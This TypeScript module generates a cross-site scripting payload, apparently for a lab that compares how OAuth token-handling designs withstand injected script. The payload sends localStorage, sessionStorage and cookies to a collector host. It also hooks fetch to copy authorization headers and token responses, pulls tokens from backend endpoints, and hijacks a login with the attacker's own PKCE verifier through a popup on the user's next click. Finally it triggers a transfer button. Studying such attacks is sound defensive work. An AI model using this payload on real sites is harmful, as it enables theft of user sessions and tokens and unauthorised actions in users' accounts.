import { createHash } from 'node:crypto'
import { apiResource, originOf, scope, type Places } from './places.ts'

/** The injected script: the same text for all apps. It knows no secret, only what anybody can see of an app. */
export function payload(places: Places): string {
  return `(() => {
const app = location.hostname.split('.')[0]
const send = (loot) => realFetch('${originOf(places, 'collector')}/loot', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ app, ...loot }) })

// 1. Whatever lies in storage.
const realFetch = window.fetch
send({ from: 'storage', text: JSON.stringify({ ...localStorage, ...sessionStorage, cookie: document.cookie }) })

// 2. Whatever the app's own calls carry. Their answers are those of a rider: the attacker sees what the user sees.
window.fetch = async (input, init) => {
  const response = await realFetch(input, init)
  const url = String(input?.url ?? input)
  const text = /\\/(api|token)\\b/.test(url) ? await response.clone().text() : ''
  send({ from: 'hook', url, method: init?.method ?? 'GET', authorization: new Headers(init?.headers).get('authorization'), status: response.status, text })
  return response
}

// 3. Whatever the app's backend hands out to the page.
for (const path of ['/token', '/bff/token', '/auth/access-token'])
  realFetch(path).then(async (response) => send({ from: 'backend', path, status: response.status, text: await response.text() }))

// 4. A login of the attacker's own, with the attacker's verifier, in a popup that borrows the user's next click.
addEventListener('click', async () => {
  const verifier = 'attackers-own-verifier-'.padEnd(64, 'x')
  const challenge = 'CHALLENGE'
  const redirectUri = location.origin + (['ls', 'mem', 'proxy', 'tmb'].includes(app) ? '/callback' : '/bff/callback')
  const popup = open('${originOf(places, 'idp')}/auth?' + new URLSearchParams({ response_type: 'code', client_id: app, redirect_uri: redirectUri,
    scope: '${scope}', resource: '${apiResource}', state: 'x', code_challenge: challenge, code_challenge_method: 'S256' }))
  for (let tries = 0; tries < 200; tries++) {
    await new Promise((resolve) => setTimeout(resolve, 25))
    let seen
    try { seen = popup.location.href } catch { continue }
    if (seen === 'about:blank' || !seen) continue
    send({ from: 'new flow', url: seen, code: new URL(seen).searchParams.get('code'), verifier, redirectUri })
    popup.close()
    break
  }
  // 5. Riding: the script presses the app's own button.
  document.getElementById('transfer').click()
}, { once: true })
})()`.replace('CHALLENGE', challenge)
}

/** SHA-256 of the verifier in the script (RFC 7636 section 4.2). */
export const verifier = 'attackers-own-verifier-'.padEnd(64, 'x')
const challenge = createHash('sha256').update(verifier).digest('base64url')
